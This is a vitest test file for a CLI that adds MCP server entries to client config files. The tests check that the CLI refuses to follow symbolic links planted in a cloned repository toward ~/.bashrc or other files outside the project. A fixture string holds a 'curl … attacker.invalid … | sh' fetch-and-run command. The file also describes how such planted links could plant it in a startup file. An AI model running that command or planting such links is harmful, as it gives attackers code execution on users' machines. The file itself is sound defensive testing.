import { existsSync, lstatSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { execa } from 'execa';
import { describe, expect, it } from 'vitest';
import { scratchMaker } from '../helpers/scratch.js';
import { binPath, repoRoot } from './clients.js';

// Runs the built CLI in a cloned repository that ships links: `npm run build` first.
const scratch = scratchMaker('cli-mcp-install-links-');
const todo = path.join(repoRoot, 'examples', 'todo', 'todo.js');

// Valid JSONC whose comment is shell: what an attacker wants appended to a file the user runs.
const TRAP = '{\n  /*\n  curl -s https://attacker.invalid/x | sh\n  */\n  "mcpServers": {}\n}\n';

/** A home with a .bashrc, and a cloned repository inside it. */
function layout(): { home: string; repo: string; bashrc: string } {
  const home = scratch();
  const repo = path.join(home, 'src', 'cloned');
  mkdirSync(repo, { recursive: true });
  const bashrc = path.join(home, '.bashrc');
  writeFileSync(bashrc, 'export PS1="$ "\n');
  return { home, repo, bashrc };
}

function install(cwd: string, ...more: string[]) {
  return execa(process.execPath, [binPath, 'install', 'claude-code', todo, ...more], { cwd, reject: false, env: { HOME: path.dirname(cwd) } });
}

describe('cli-mcp install in a repository that ships symbolic links', () => {
  it('when .mcp.json.bak links to ~/.bashrc then install leaves .bashrc alone and writes its backup as a file of its own', async () => {
    const { repo, bashrc } = layout();
    writeFileSync(path.join(repo, '.mcp.json'), TRAP);
    symlinkSync('../../.bashrc', path.join(repo, '.mcp.json.bak'));
    const { exitCode, stderr } = await install(repo);
    expect(stderr).toContain('added server "todo"');
    expect(exitCode).toBe(0);
    expect(readFileSync(bashrc, 'utf8')).toBe('export PS1="$ "\n');
    expect(lstatSync(path.join(repo, '.mcp.json.bak')).isSymbolicLink()).toBe(false);
    expect(readFileSync(path.join(repo, '.mcp.json.bak'), 'utf8')).toBe(TRAP);
  });

  it('when the backup link dangles then no file is created where it points', async () => {
    const { home, repo } = layout();
    writeFileSync(path.join(repo, '.mcp.json'), TRAP);
    const planted = path.join(home, '.config', 'autostart.sh');
    symlinkSync(planted, path.join(repo, '.mcp.json.bak'));
    expect((await install(repo)).exitCode).toBe(0);
    expect(existsSync(planted)).toBe(false);
  });

  it('when .mcp.json itself is a dangling link then install refuses and creates nothing where it points', async () => {
    const { home, repo } = layout();
    const planted = path.join(home, '.profile.d', 'evil.json');
    mkdirSync(path.dirname(planted));
    symlinkSync(planted, path.join(repo, '.mcp.json'));
    const { exitCode, stderr } = await install(repo, '--force');
    expect(exitCode).toBe(1);
    expect(stderr).toContain(`${path.join(repo, '.mcp.json')} is a symbolic link to ${planted}, which does not exist`);
    expect(existsSync(planted)).toBe(false);
  });

  it('when .mcp.json links out of the project then install refuses without --force, and edits the linked file with it', async () => {
    const { home, repo } = layout();
    const outside = path.join(home, 'settings.json');
    writeFileSync(outside, '{"mcpServers": {}}\n');
    symlinkSync('../../settings.json', path.join(repo, '.mcp.json'));
    const refused = await install(repo);
    expect(refused.exitCode).toBe(1);
    expect(refused.stderr).toContain(`leads out of the project through a symbolic link, to ${outside}: cli-mcp edits it there only with --force`);
    expect(readFileSync(outside, 'utf8')).toBe('{"mcpServers": {}}\n');

    const forced = await install(repo, '--force');
    expect(forced.exitCode).toBe(0);
    expect(JSON.parse(readFileSync(outside, 'utf8'))).toMatchObject({ mcpServers: { todo: { command: process.execPath } } });
    expect(lstatSync(path.join(repo, '.mcp.json')).isSymbolicLink()).toBe(true);
  });

  it('when the config\'s directory links out of the project then install refuses; a link that stays inside is followed', async () => {
    const { home, repo } = layout();
    mkdirSync(path.join(home, 'vscode-out'));
    symlinkSync('../../vscode-out', path.join(repo, '.vscode'));
    const out = await execa(process.execPath, [binPath, 'install', 'vscode', todo], { cwd: repo, reject: false });
    expect(out.exitCode).toBe(1);
    expect(out.stderr).toContain('leads out of the project through a symbolic link');
    expect(existsSync(path.join(home, 'vscode-out', 'mcp.json'))).toBe(false);

    mkdirSync(path.join(repo, 'shared'));
    writeFileSync(path.join(repo, 'shared', 'mcp.json'), '{"mcpServers": {}}\n');
    symlinkSync('shared/mcp.json', path.join(repo, '.mcp.json'));
    expect((await install(repo)).exitCode).toBe(0);
    expect(JSON.parse(readFileSync(path.join(repo, 'shared', 'mcp.json'), 'utf8'))).toMatchObject({ mcpServers: { todo: {} } });
  });

  it('when uninstall meets a config linked out of the project then it refuses without --force', async () => {
    const { home, repo } = layout();
    const outside = path.join(home, 'settings.json');
    writeFileSync(outside, '{"mcpServers": {"todo": {"command": "x"}}}\n');
    symlinkSync(outside, path.join(repo, '.mcp.json'));
    const refused = await execa(process.execPath, [binPath, 'uninstall', 'claude-code', 'todo'], { cwd: repo, reject: false });
    expect(refused.exitCode).toBe(1);
    expect(readFileSync(outside, 'utf8')).toContain('"todo"');
    const forced = await execa(process.execPath, [binPath, 'uninstall', 'claude-code', 'todo', '--force'], { cwd: repo, reject: false });
    expect(forced.exitCode).toBe(0);
    expect(readFileSync(outside, 'utf8')).not.toContain('"todo"');
  });
});
